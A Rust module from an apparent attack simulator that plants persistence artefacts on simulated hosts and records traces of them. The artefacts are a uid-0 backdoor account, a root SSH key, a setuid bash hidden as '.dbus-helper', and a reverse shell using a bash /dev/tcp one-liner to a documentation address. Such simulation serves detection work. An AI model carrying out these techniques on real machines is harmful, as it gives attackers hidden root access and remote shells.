//! Attacks that keep a way in, or rights.

use super::Trace;
use super::persistence::break_in;
use crate::dice::Dice;
use crate::fleet::file::Content;
use crate::fleet::host::{AuthorizedKey, Host, User};
use crate::fleet::network::{SocketKind, TcpState};
use crate::fleet::process::Process;
use std::net::{Ipv4Addr, SocketAddr};

/// Where attackers sit: an address of a network that documentation may use.
pub(super) const ATTACKER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 66);

pub(super) fn backdoor_account(host: &mut Host, dice: &Dice) -> Vec<Trace> {
    let key = AuthorizedKey::of(dice, "root@kali");
    let name = "sysbackup";
    let traces = vec![
        Trace::added("users", [("username", name), ("uid", "0")]),
        Trace::added("authorized_keys", [("username", name), ("key", &key.key)]),
    ];
    host.users.push(User {
        name: name.to_owned(),
        uid: 0,
        gid: 0,
        comment: "system backup".to_owned(),
        home: "/var/lib/sysbackup".to_owned(),
        shell: "/bin/bash".to_owned(),
        keys: vec![key],
    });
    traces
}

pub(super) fn key_for_root(host: &mut Host, dice: &Dice) -> Vec<Trace> {
    let key = AuthorizedKey::of(dice, "root@localhost");
    let trace = Trace::added("authorized_keys", [("username", "root"), ("key", &key.key)]);
    if let Some(root) = host.user_mut("root") {
        root.keys.push(key);
    }
    vec![trace]
}

pub(super) fn setuid_shell(host: &mut Host, dice: &Dice) -> Vec<Trace> {
    let then = break_in(host, &mut dice.clone());
    let path = "/usr/bin/.dbus-helper";
    let shell =
        host.files.get("/usr/bin/bash").map_or(Content::Text(String::new()), |file| file.content.clone());
    host.files.put(path, 0o4755, then, shell);
    vec![Trace::added("suid_bin", [("path", path)])]
}

pub(super) fn reverse_shell(host: &mut Host, dice: &Dice) -> Vec<Trace> {
    let mut dice = dice.clone();
    let front = host.role.front();
    let parent = host.process(front.process).map_or(1, |process| process.pid);
    let (uid, gid) = front.account;
    let pid = host.next_pid(&mut dice, 3000);
    let line = format!("bash -i >& /dev/tcp/{ATTACKER}/443 0>&1");
    let started = break_in(host, &mut dice);
    let mut shell = Process::new(pid, parent, "/usr/bin/bash", &["sh", "-c", &line])
        .user(uid, gid)
        .unit(front.unit)
        .started(started);
    front.place.clone_into(&mut shell.cwd);
    host.processes.push(shell);
    host.files.put(front.place, 0o755, host.clock.installed, Content::Directory);
    let here = SocketAddr::new(host.address.into(), dice.port(32_768, 60_999));
    let there = SocketAddr::new(ATTACKER.into(), 443);
    host.listen(&mut dice, uid, &[pid], SocketKind::Tcp(here, there, TcpState::Established));
    let remote = ATTACKER.to_string();
    vec![
        Trace::added(
            "processes",
            [("path", "/usr/bin/bash"), ("cmdline", &format!("sh -c {line}")), ("uid", &uid.to_string())],
        ),
        Trace::added("connections", [("process_path", "/usr/bin/bash"), ("remote_address", &remote)]),
    ]
}
